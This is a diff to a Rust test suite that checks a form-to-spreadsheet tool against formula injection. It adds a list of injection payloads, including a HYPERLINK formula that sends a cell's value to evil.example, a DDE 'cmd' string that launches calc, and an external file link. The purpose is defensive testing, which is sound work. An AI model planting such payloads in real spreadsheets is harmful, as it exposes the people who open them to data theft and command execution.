@@ -5,8 +5,10 @@ use std::collections::BTreeMap;
 use std::fs;
 use std::io::{Cursor, Read};
 use std::path::Path;
+use std::process::Command;
 
 use crate::harness::program::{Run, finished, in_package, program, text_of};
+use crate::harness::python;
 use crate::harness::recalculated::cells;
 use serde_json::Value;
 use zip::ZipArchive;
@@ -84,6 +86,73 @@ fn nothing_of_a_form_becomes_a_formula_or_a_link() {
                 assert!(!link.split("/>").next().unwrap().contains("r:id"), "{name}: {link}");
             });
         }
+    }
+}
+
+/// Texts that a spreadsheet might take for more than texts.
+const PAYLOADS: [&str; 8] = [
+    "=HYPERLINK(\\\"http://evil.example/?x=\\\"&A1,\\\"x\\\")",
+    "=cmd|' /C calc'!A0",
+    "='[http://evil.example/x.xlsx]S'!A1",
+    "@SUM(A1)",
+    "+1+1",
+    "{=1}</t></is><f>1+1</f>",
+    "http://evil.example/",
+    "file://evil.example/share/x",
+];
+
+/// The form with these in the place of its texts.
+fn with_payloads(form: &str) -> (String, usize) {
+    let (mut text, mut planted) = (String::new(), 0);
+    for line in form.lines() {
+        let keys = ["name  = \"", "phone = \"", "fax   = \"", "email = \"", "note = \"", "evidence = \""];
+        let found = keys.iter().find_map(|key| Some(line.find(key)? + key.len()));
+        let end = found.and_then(|from| Some((from, from + line[from..].find('"')?)));
+        match end {
+            Some((from, to)) => {
+                text += &[&line[..from], PAYLOADS[planted % PAYLOADS.len()], &line[to..]].concat();
+                planted += 1;
+            }
+            None => text += line,
+        }
+        text.push('\n');
+    }
+    (text, planted)
+}
+
+#[test]
+fn another_program_sees_no_formula_that_the_form_brought() {
+    if !python::has("openpyxl") {
+        return;
+    }
+    let folder = tempfile::tempdir().unwrap();
+    let (hostile, planted) = with_payloads(&text_of(FORM));
+    assert!(planted > 20, "{planted}");
+    fs::write(folder.path().join("tame.toml"), text_of(FORM)).unwrap();
+    fs::write(folder.path().join("hostile.toml"), hostile).unwrap();
+    for name in ["tame", "hostile"] {
+        let result = format!("{name}.xlsx");
+        let run = score(folder.path(), &["check", &format!("{name}.toml"), "-o", &result]);
+        assert!(run.code <= 1, "{}", run.stderr);
+    }
+    let mut python = Command::new("python3");
+    python.arg(in_package("tests/formulas/openpyxl_sees.py")).args(["tame.xlsx", "hostile.xlsx"]);
+    let output = python.current_dir(&folder).output().unwrap();
+    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
+    let seen = String::from_utf8(output.stdout).unwrap();
+    let seen: Vec<Value> = seen.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
+    let [tame, hostile] = &seen[..] else { panic!("{seen:?}") };
+    for what in ["formulas", "rules"] {
+        assert!(tame[what].as_array().unwrap().len() > 10, "{what}");
+        assert_eq!(hostile[what], tame[what], "{what}");
+    }
+    let texts = hostile["texts"].as_array().unwrap();
+    for payload in PAYLOADS {
+        let payload = payload.replace('\\', "");
+        assert!(texts.iter().any(|text| text.as_str().unwrap().contains(&payload)), "{payload}");
+    }
+    for seen in [tame, hostile] {
+        assert_eq!((&seen["external"], &seen["links"]), (&Value::from(0), &Value::from(Vec::<Value>::new())));
     }
 }
 
